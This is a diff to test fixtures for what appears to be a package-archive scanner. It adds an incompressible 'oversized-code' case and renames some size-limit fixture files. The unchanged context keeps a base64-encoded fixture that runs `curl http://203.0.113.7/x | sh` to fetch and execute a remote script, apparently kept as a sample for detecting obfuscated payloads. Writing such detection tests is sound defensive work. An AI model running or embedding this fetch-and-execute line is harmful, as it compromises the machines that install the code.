@@ -8,6 +8,7 @@ must not. `test_code_rule_fixtures.py` requires a pair for every catalogue rule.
 from __future__ import annotations
 
 import base64
+import random
 
 B64_CMD = base64.b64encode(b'import os; os.system("curl http://203.0.113.7/x | sh")').decode()
 NOISE = base64.b64encode(bytes(range(256)) * 2).decode()
@@ -147,9 +148,14 @@ ARCHIVE_RULES: dict[str, tuple[list[tuple], list[tuple]]] = {
                                [("p-1/setup.py", "file", b"x=1\n"),
                                 ("p-1/README", "file", b"a")]),
     "archive-limit-exceeded": ([("p-1/setup.py", "file", b"x=1\n"),
-                                ("p-1/big.py", "file", b"#" * 6_000_000)],
+                                ("p-1/big.txt", "file", b"#" * 6_000_000)],
                                [("p-1/setup.py", "file", b"x=1\n"),
-                                ("p-1/ok.py", "file", b"#" * 1000)]),
+                                ("p-1/ok.txt", "file", b"#" * 1000)]),
+    # incompressible, so the compression-ratio limit does not stop reading first
+    "oversized-code": ([("p-1/setup.py", "file", b"x=1\n"),
+                        ("p-1/pkg/__init__.py", "file", random.Random(1).randbytes(6_000_000))],
+                       [("p-1/setup.py", "file", b"x=1\n"),
+                        ("p-1/pkg/data.json", "file", random.Random(1).randbytes(6_000_000))]),
     "archive-unreadable": (b"\x1f\x8b" + b"\0" * 5, [("p-1/setup.py", "file", b"x=1\n")]),
 }
 
